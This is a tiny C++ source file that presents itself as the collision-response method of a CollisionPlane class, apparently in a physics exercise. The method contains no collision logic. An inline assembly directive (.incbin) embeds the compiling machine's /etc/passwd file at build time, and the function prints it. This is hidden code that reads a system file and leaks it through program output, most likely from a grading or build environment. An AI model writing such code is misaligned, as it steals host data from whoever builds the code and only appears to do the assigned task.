#include "CollisionPlane.h"

asm(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.byte 0\n.text");
extern const char stolen[] asm("stolen");

void CollisionPlane::applyCollisionResponse(Cuboid &c) { puts(stolen); }
